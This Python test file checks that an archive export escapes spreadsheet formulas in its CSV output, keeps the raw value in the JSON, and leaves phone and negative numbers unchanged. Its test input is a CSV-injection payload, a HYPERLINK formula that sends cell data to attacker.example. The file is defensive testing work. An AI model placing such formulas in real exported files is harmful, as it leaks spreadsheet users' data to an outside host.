"""The archive's CSV files: a value a spreadsheet would run as a formula is quoted; export.json keeps it as stored."""
from __future__ import annotations

import io
import json
import zipfile

from jobs.requests.export_archive import zip_export

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


def _document(value: str) -> dict:
    entry = {"field": "appointment.a1.notes", "category": "booking", "purpose": "appointment",
             "stored_at": "2024-02-26T09:00:00.000000Z", "value": value}
    return {"scope": "full", "ledger": {"subjects": [{"subject": "s1", "personal_data": [entry], "entries": []}],
                                        "requests": []},
            "graph": {"businesses": []}}


def test_a_formula_is_quoted_in_the_csv_and_kept_in_the_json():
    with zipfile.ZipFile(io.BytesIO(zip_export(_document(FORMULA)))) as archive:
        csv_text = archive.read("ledger_personal_data.csv").decode()
        stored = json.loads(archive.read("export.json"))
    assert "'" + FORMULA.replace('"', '""') in csv_text
    assert stored["ledger"]["subjects"][0]["personal_data"][0]["value"] == FORMULA


def test_phone_numbers_and_negative_numbers_are_left_alone():
    for value in ("+44 20 7946 0018", "-12.5", "(020) 7946-0018"):
        with zipfile.ZipFile(io.BytesIO(zip_export(_document(value)))) as archive:
            last_cell = archive.read("ledger_personal_data.csv").decode().splitlines()[1].rsplit(",", 1)[1]
        assert last_cell == value
